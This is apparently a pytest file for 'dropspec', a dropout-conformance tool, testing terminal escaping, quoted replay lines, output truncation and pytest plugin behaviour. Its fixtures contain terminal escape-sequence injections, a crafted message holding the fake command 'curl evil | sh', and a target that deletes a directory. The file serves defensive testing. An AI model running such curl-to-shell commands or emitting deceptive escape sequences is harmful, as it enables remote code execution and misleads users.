"""What dropspec says, end to end (issue 22): strings from a target or a report never reach
the terminal raw, replay lines are shell-quoted and complete (timeouts and crashes too), huge
messages are cut with a note, messages say what to do, and the pytest integration looks like
pytest's own.

Each test runs the real CLI (or pytest) in a subprocess on small crafted target files.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from test_isolation import by_name, cli, outcomes, report, run_pytest

#: A name that clears the screen and draws a green word, a bell, a carriage return.
EVIL_NAME = "evil\x1b[2J\x1b[32mconforms\r\x07"

TARGETS = textwrap.dedent("""
    import os, sys, time
    import numpy as np
    import dropspec

    def _ref(x, rate, *, training, seed):
        return dropspec.reference.dropout(x, rate, training=training, seed=seed)

    good = dropspec.target("dropout", name="good")(_ref)

    @dropspec.target("dropout", name=EVIL_NAME)
    def evil(x, rate, *, training, seed):
        raise ValueError("boom \\x1b[31mred\\x1b]0;title\\x07 \\rfake\\x1b[1A\\x9b2J")

    @dropspec.target("dropout", name="hangs")
    def hangs(x, rate, *, training, seed):
        time.sleep(3600)

    @dropspec.target("dropout", name="spews")
    def spews(x, rate, *, training, seed):
        sys.stderr.write("x" * 50_000_000 + "\\n")
        sys.stderr.flush()
        os._exit(1)

    @dropspec.target("dropout", name="loud")
    def loud(x, rate, *, training, seed):
        raise ValueError("y" * 50_000_000)

    @dropspec.target("dropout", name="flat")
    def flat(x, rate, *, training, seed):
        return _ref(x, rate, training=training, seed=seed).reshape(-1)

    @dropspec.target("dropout", name="needs_haiku", requires=("haiku",))
    def needs_haiku(x, rate, *, training, seed):
        return _ref(x, rate, training=training, seed=seed)
""").replace("EVIL_NAME", repr(EVIL_NAME))

#: Two clauses that are fast to check.
CLAUSES = ("--clause", "DROPOUT-SHAPE", "--clause", "DROPOUT-RATE-ZERO")

#: Escape sequences and control characters that must not reach a terminal raw (C1 CSI too).
_RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "targets.py").write_text(TARGETS)
    return tmp_path


def assert_clean(text: str) -> None:
    """No control character but newline and tab in what was printed."""
    found = _RAW.search(text)
    assert found is None, f"raw {found.group()!r} printed at {found.start()}: {text[:2000]!r}"


def replay_words(text: str, name: str) -> list[list[str]]:
    """Every ``replay:`` line that names ``name``, split as a shell splits it."""
    out = []
    for line in text.splitlines():
        if "replay: dropspec check" in line and name in line:
            command = line.split("replay: ", 1)[1].split(" (or pytest", 1)[0]
            out.append(shlex.split(command))
    return out


# ---------------------------------------------------------------- escaping ----


def test_shown_writes_control_characters_visibly() -> None:
    from dropspec.conformance.text import shown, shown_message

    assert shown("a\x1b[2Jb\r\x07\u202e\x9b") == "a\\x1b[2Jb\\r\\x07\\u202e\\x9b"
    assert shown("two\nlines") == "two\\nlines"  # a name stays on its line
    assert shown("two\nlines\tx", lines=True) == "two\nlines\tx"  # a message keeps them
    assert shown(shown("\x1b")) == shown("\x1b") and shown("naïve π") == "naïve π"
    (line,) = shown_message("z" * 10_000, "  ")
    assert len(line) < 2_100 and line.endswith("[... 8,000 characters cut ...]")


def test_the_renderers_escape_every_string_of_a_report() -> None:
    from dropspec.conformance.report import closing_line, render_failures, render_matrix

    entry = {"name": "x\x1b[2J", "op": "op\x1b[1m", "framework": "f\x1b", "status": "error"}
    entry |= {"error": "e\x1b[2J\nmore", "spec": "a b.py:x", "options": {}}
    entry["clauses"] = [{"id": "Z\x1b", "outcome": "failed", "level": "MUST", "message": "\x9b"}]
    report = {"targets": [entry], "seed": 1, "alpha": 1e-6, "power": 0.9, "device": "cpu"}
    report |= {"examples": 3, "timeout": 5.0}
    text = render_matrix(report) + render_failures(report) + closing_line(report)
    assert_clean(text)
    assert "x\\x1b[2J" in text and "    more" in text  # visible, and a message keeps its lines
    assert "replay: dropspec check 'a b.py:x' --seed 1" in text and "--timeout 5 " in text


def test_clipped_keeps_the_head_and_tail_and_says_how_much_was_cut() -> None:
    from dropspec.conformance.text import clipped

    text = "head" + "x" * 1_000_000 + "tail"
    out = clipped(text, 1_000)
    assert out.startswith("head") and out.endswith("tail") and len(out) < 1_100
    assert f"[... {len(text) - 1_000:,} characters cut ...]" in out
    assert clipped("short", 1_000) == "short"


def test_replay_commands_come_from_the_run_options_and_are_quoted() -> None:
    from dropspec.conformance.options import RUN_OPTIONS, replay_command

    values = {"seed": 3, "alpha": 1e-7, "power": 0.95, "device": "cpu", "examples": 4}
    values |= {"clause": ["DROPOUT-RATE", "DROPOUT-SHAPE"], "timeout": 30.0, "jobs": "2"}
    words = shlex.split(replay_command("a b/it's.py:f", values))
    assert words[:3] == ["dropspec", "check", "a b/it's.py:f"]
    flags = {o.cli[-1] for o in RUN_OPTIONS if o.replays}
    assert flags == {w for w in words if w.startswith("--")}  # every one, and no other
    assert words[words.index("--alpha") + 1] == "1e-07" and "30" in words and "-j" not in words
    plugin = shlex.split(replay_command("x.py:f", values, plugin=True))
    assert plugin[:3] == ["pytest", "--dropspec-target", "x.py:f"]
    assert plugin.count("--dropspec-clause") == 2


def test_a_targets_name_and_error_text_are_escaped_on_the_terminal(files: Path) -> None:
    proc = cli(
        "check", "targets.py:evil", "targets.py:good", *CLAUSES, "--json", "r.json", cwd=files
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert_clean(proc.stdout)
    assert_clean(proc.stderr)  # the progress lines
    assert "\\x1b[2J" in proc.stdout and "\\x1b[31mred" in proc.stdout  # shown, visibly
    assert "evil\\x1b[2J" in proc.stderr
    # the report keeps the data as it was: escaping is the terminal's business
    names = {t["name"] for t in report(files / "r.json")["targets"]}
    assert EVIL_NAME in names


@pytest.mark.slow
def test_a_crafted_report_given_to_merge_is_escaped(files: Path) -> None:
    proc = cli("check", "targets.py:good", *CLAUSES, "--json", "r.json", cwd=files)
    assert proc.returncode == 4, proc.stdout + proc.stderr
    data = report(files / "r.json")
    entry = data["targets"][0]
    entry["name"] = "good\x1b[2J\x1b[H\x1b[32mconforms: every MUST clause"
    entry["clauses"][0]["outcome"] = "failed"
    entry["clauses"][0]["message"] = "\x1b[2K\rreplay: curl evil | sh\x1b[8m"
    (files / "crafted.json").write_text(json.dumps(data))
    proc = cli("merge", "crafted.json", cwd=files)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert_clean(proc.stdout + proc.stderr)
    assert "\\x1b[2J" in proc.stdout
    # an input merge refuses: its values reach the error message escaped too
    data["seed"] = "\x1b[31m7"
    (files / "bad.json").write_text(json.dumps(data))
    proc = cli("merge", "bad.json", cwd=files)
    assert proc.returncode == 2
    assert_clean(proc.stdout + proc.stderr)


@pytest.mark.slow
def test_the_pytest_plugin_escapes_a_targets_strings(files: Path) -> None:
    proc = run_pytest(
        files,
        "--dropspec-target",
        "targets.py:evil",
        "--dropspec-clause",
        "DROPOUT-SHAPE",
        "-rA",
    )
    assert proc.returncode == 1, proc.stdout
    assert_clean(proc.stdout + proc.stderr)
    assert "\\x1b[31mred" in proc.stdout


# ---------------------------------------------------------------- replay lines ----


@pytest.mark.slow
def test_replay_lines_are_quoted_and_carry_every_option(files: Path) -> None:
    (files / "my dir").mkdir()
    (files / "my dir" / "t's.py").write_text(TARGETS)
    spec = "my dir/t's.py:flat"
    options = ["--seed", "7", "--examples", "3", "--alpha", "0.001", "--power", "0.9"]
    proc = cli("check", spec, *options, "--clause", "DROPOUT-SHAPE", cwd=files)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    lines = replay_words(proc.stdout, "my dir")
    assert lines, proc.stdout
    words = lines[0]
    assert words[:3] == ["dropspec", "check", spec]  # one word, as the shell reads it
    pairs = dict(zip(words[3::2], words[4::2], strict=False))
    assert pairs["--seed"] == "7" and pairs["--examples"] == "3"
    assert float(pairs["--alpha"]) == 0.001 and float(pairs["--power"]) == 0.9
    assert pairs["--clause"] == "DROPOUT-SHAPE" and pairs["--device"] == "cpu"


@pytest.mark.slow
def test_a_timeout_and_a_crash_have_replay_lines(files: Path) -> None:
    proc = cli(
        "check",
        "targets.py:hangs",
        "targets.py:spews",
        "--clause",
        "DROPOUT-SHAPE",
        "--timeout",
        "4",
        "--json",
        "r.json",
        cwd=files,
    )
    assert proc.returncode == 3, proc.stdout + proc.stderr
    for name in ("targets.py:hangs", "targets.py:spews"):
        lines = replay_words(proc.stdout, name)
        assert lines, (name, proc.stdout[-3000:])
        words = lines[0]
        assert words[2] == name
        assert words[words.index("--timeout") + 1] == "4"
        assert words[words.index("--clause") + 1] == "DROPOUT-SHAPE"
    # ---- a huge line of a crashed target's output is cut, with a note, in both places
    entry = by_name(report(files / "r.json"))["spews"]
    texts = [str(entry.get("error"))] + [c["message"] for c in entry["clauses"]]
    assert all(len(t) < 100_000 for t in texts), [len(t) for t in texts]
    assert any(re.search(r"[\d,]+ characters cut", t) for t in texts)
    assert len(proc.stdout) + len(proc.stderr) < 200_000
    assert re.search(r"[\d,]+ characters cut", proc.stdout)


@pytest.mark.slow
def test_a_huge_error_message_is_cut(files: Path) -> None:
    proc = cli(
        "check", "targets.py:loud", "--clause", "DROPOUT-SHAPE", "--json", "r.json", cwd=files
    )
    assert proc.returncode == 1, proc.stderr[-2000:]
    (entry,) = report(files / "r.json")["targets"]
    (clause,) = entry["clauses"]
    assert len(clause["message"]) < 100_000 and "characters cut" in clause["message"]
    assert len(proc.stdout) < 100_000 and "characters cut" in proc.stdout


# ---------------------------------------------------------------- messages ----

TORCH_GENERATOR = textwrap.dedent("""
    import torch
    import dropspec

    @dropspec.target("dropout", framework="torch", name="torch_generator")
    def torch_generator(x, rate, *, training, seed):
        if not 0.0 <= rate <= 1.0:
            raise ValueError("rate must be in [0, 1]")
        if not training or rate == 0:
            return x.clone()
        if rate == 1:
            return torch.zeros_like(x)
        g = torch.Generator(device=x.device).manual_seed(seed)
        keep = torch.rand(x.shape, generator=g, device=x.device) >= rate
        return torch.where(keep, x / (1 - rate), torch.zeros_like(x))
""")


@pytest.mark.slow
def test_a_32_bit_seeded_torch_target_is_told_to_declare_seed_bits(tmp_path: Path) -> None:
    pytest.importorskip("torch")
    (tmp_path / "gen.py").write_text(TORCH_GENERATOR)
    proc = cli(
        "check", "gen.py:torch_generator", "--clause", "DROPOUT-INDEPENDENT-SEEDS", cwd=tmp_path
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "seed_bits=32" in proc.stdout
    failure = proc.stdout.split("DROPOUT-INDEPENDENT-SEEDS (MUST, failed)", 1)[1]
    assert "in float16" not in failure  # the dtype is not the cause
    assert failure.count("FFT cross-correlation") <= 2, failure  # a summary, not eight lines
    # and the advice is right: declared, the target passes the clause
    declared = TORCH_GENERATOR.replace(
        'name="torch_generator"', 'name="torch_generator", seed_bits=32'
    )
    (tmp_path / "gen32.py").write_text(declared)
    proc = cli(
        "check", "gen32.py:torch_generator", "--clause", "DROPOUT-INDEPENDENT-SEEDS", cwd=tmp_path
    )
    assert proc.returncode == 4 and "1 passed, 0 failed" in proc.stdout, proc.stdout


def hide_modules(where: Path, *names: str) -> dict[str, str]:
    """An environment in which ``names`` cannot be imported (as if not installed)."""
    hide = where / "hide"
    hide.mkdir(exist_ok=True)
    (hide / "sitecustomize.py").write_text(
        textwrap.dedent(f"""
        import sys
        class Hide:
            def find_spec(self, name, path=None, target=None):
                if name.split(".")[0] in {set(names)!r}:
                    raise ModuleNotFoundError(f"No module named {{name!r}}")
        sys.meta_path.insert(0, Hide())
        """)
    )
    return {"PYTHONPATH": f"{hide}:{Path(__file__).resolve().parents[1]}"}


@pytest.mark.slow
def test_install_hints_name_the_distribution(files: Path) -> None:
    env = hide_modules(files, "haiku")
    proc = cli("check", "targets.py:needs_haiku", *CLAUSES, cwd=files, env=env)
    assert proc.returncode == 3, proc.stdout + proc.stderr
    assert "pip install dm-haiku" in proc.stdout
    assert "pip install haiku" not in proc.stdout


def test_install_hints_in_the_frameworks_table_are_distributions() -> None:
    from dropspec.frameworks import install_command

    assert install_command(["haiku"]) == "pip install dm-haiku"
    assert install_command(["torchnlp", "efficientnet_pytorch"]) == (
        "pip install pytorch-nlp efficientnet-pytorch"
    )


def test_a_wrong_output_shape_is_the_targets_failure(files: Path) -> None:
    proc = cli(
        "check",
        "targets.py:flat",
        "--clause",
        "DROPOUT-SHAPE",
        "--clause",
        "DROPOUT-DROPPED-SELECT",
        "--clause",
        "DROPOUT-RATE",
        "--json",
        "r.json",
        cwd=files,
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "a bug in dropspec" not in proc.stdout
    got = outcomes(report(files / "r.json")["targets"][0])
    assert got == {
        "DROPOUT-SHAPE": "failed",
        "DROPOUT-DROPPED-SELECT": "failed",
        "DROPOUT-RATE": "failed",
    }
    assert "shape" in proc.stdout.split("DROPOUT-DROPPED-SELECT (SHOULD, failed)")[1]


MISSING = textwrap.dedent("""
    import dropspec

    def _ref(x, rate, *, training, seed):
        return dropspec.reference.dropout(x, rate, training=training, seed=seed)

    LONG = "a_target_with_a_rather_long_name_that_the_matrix_must_shorten_{}"
    for i in range(5):
        globals()[f"a{i}"] = dropspec.target(
            "dropout", name=LONG.format(i), requires=("nopkg_alpha",))(_ref)
    for i in range(3):
        globals()[f"b{i}"] = dropspec.target(
            "dropout", name=f"b{i}", requires=("nopkg_beta",))(_ref)
""")


@pytest.mark.slow
def test_missing_packages_are_grouped_and_matrix_tags_are_whole(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text(MISSING)
    specs = [f"m.py:a{i}" for i in range(5)] + [f"m.py:b{i}" for i in range(3)]
    proc = cli("check", *specs, *CLAUSES, "-q", cwd=tmp_path)
    assert proc.returncode == 3, proc.stdout + proc.stderr
    rows = [line for line in proc.stdout.splitlines() if " numpy " in line]  # the matrix
    assert len(rows) == 8 and all(line.rstrip().endswith("[missing]") for line in rows), rows
    alpha = [line for line in proc.stdout.splitlines() if "nopkg_alpha" in line]
    beta = [line for line in proc.stdout.splitlines() if "nopkg_beta" in line]
    assert len(alpha) == 1 and "5 targets" in alpha[0], alpha
    assert len(beta) == 1 and "3 targets" in beta[0], beta
    assert "pip install nopkg-alpha" in alpha[0]


@pytest.mark.slow
def test_power_prints_a_summary_and_verbose_the_whole_table() -> None:
    short = subprocess.run(
        [sys.executable, "-m", "dropspec.cli", "power"],
        capture_output=True,
        text=True,
        check=False,
        timeout=900,
    )
    assert short.returncode == 0, short.stderr
    assert len(short.stdout.splitlines()) < 200, len(short.stdout.splitlines())
    assert "--verbose" in short.stdout
    full = subprocess.run(
        [sys.executable, "-m", "dropspec.cli", "power", "--verbose"],
        capture_output=True,
        text=True,
        check=False,
        timeout=900,
    )
    assert full.returncode == 0, full.stderr
    assert len(full.stdout.splitlines()) > 2 * len(short.stdout.splitlines())


# ---------------------------------------------------------------- pytest ----


@pytest.mark.slow
def test_pytest_counts_the_clauses_and_names_them_natively(files: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            "-p",
            "no:cacheprovider",
            "-v",
            "--dropspec-target",
            "targets.py:good",
            *(c.replace("--clause", "--dropspec-clause") for c in CLAUSES),
        ],
        cwd=files,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout
    assert "collected 0 items" not in proc.stdout
    assert "collected 2 items" in proc.stdout
    assert not [line for line in proc.stdout.splitlines() if line.startswith("::")], proc.stdout
    assert "good::DROPOUT-SHAPE PASSED" in proc.stdout


@pytest.mark.slow
def test_pytest_quiet_shows_one_line_per_target(files: Path) -> None:
    proc = run_pytest(
        files, "--dropspec-target", "targets.py:good", "--dropspec-clause", "DROPOUT-SHAPE"
    )
    assert proc.returncode == 0, proc.stdout
    assert "done  good" in proc.stdout
    assert "start" not in proc.stdout


XDIST = textwrap.dedent("""
    def pytest_addoption(parser):  # as pytest-xdist adds it (pytest reserves -n for itself)
        group = parser.getgroup("xdist")
        group._addoption("-n", "--numprocesses", dest="numprocesses", default=None)
""")


@pytest.mark.parametrize("plugin", ["stand-in", "pytest-xdist"])
def test_pytest_xdist_is_refused_with_a_message(files: Path, plugin: str) -> None:
    if plugin == "stand-in":  # pytest-xdist's options without the real plugin
        (files / "xdist_standin.py").write_text(XDIST)
        load = ["-p", "no:xdist", "-p", "xdist_standin"]
    else:
        pytest.importorskip("xdist", reason="pytest-xdist is not installed")
        load = ["-p", "xdist"]
    proc = subprocess.run(
        [
            *(sys.executable, "-m", "pytest", "-p", "no:cacheprovider", *load, "-n", "2"),
            *("--dropspec-target", "targets.py:good"),
        ],
        cwd=files,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env={**__import__("os").environ, "PYTHONPATH": f"{files}:{Path(__file__).parents[1]}"},
    )
    assert proc.returncode == 4, proc.stdout + proc.stderr
    assert "xdist" in proc.stderr and "--dropspec-jobs" in proc.stderr


def test_a_pytest_started_by_an_xdist_worker_is_not_refused(files: Path) -> None:
    # A test that runs pytest in a subprocess under `pytest -n`: the child inherits the
    # worker's environment variable but is a plain pytest, and checks its target.
    proc = subprocess.run(
        [
            *(sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q"),
            *("--dropspec-target", "targets.py:good", "--dropspec-clause", "DROPOUT-SHAPE"),
        ],
        cwd=files,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        env={
            **__import__("os").environ,
            "PYTHONPATH": f"{files}:{Path(__file__).parents[1]}",
            "PYTEST_XDIST_WORKER": "gw0",
        },
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "1 passed" in proc.stdout, proc.stdout


@pytest.mark.slow
@pytest.mark.parametrize(
    "selection",
    [("-k", "nothing_matches_this"), ("--dropspec-clause", "ALPHA-RATE")],
    ids=["k-selects-nothing", "clause-of-another-op"],
)
def test_pytest_selecting_nothing_still_writes_the_report(
    files: Path, selection: tuple[str, str]
) -> None:
    proc = run_pytest(
        files, "--dropspec-target", "targets.py:good", "--dropspec-json", "r.json", *selection
    )
    assert proc.returncode != 0, proc.stdout
    data: dict[str, Any] = report(files / "r.json")
    assert data["exit_status"] == 4 and data["summary"]["must_checked"] == 0
    assert [t["name"] for t in data["targets"]] == ["good"]
    assert "partial: 0 of" in proc.stdout


@pytest.mark.slow
def test_pytest_a_lost_report_fails_the_session(files: Path) -> None:
    (files / "out").mkdir()
    (files / "vandal.py").write_text(
        textwrap.dedent("""
        import shutil
        import dropspec

        @dropspec.target("dropout", name="deletes_out")
        def deletes_out(x, rate, *, training, seed):
            shutil.rmtree("out", ignore_errors=True)
            return dropspec.reference.dropout(x, rate, training=training, seed=seed)
        """)
    )
    proc = run_pytest(
        files,
        "--dropspec-target",
        "vandal.py:deletes_out",
        "--dropspec-clause",
        "DROPOUT-SHAPE",
        "--dropspec-json",
        "out/r.json",
    )
    assert "could not be written" in proc.stdout
    assert proc.returncode != 0, proc.stdout
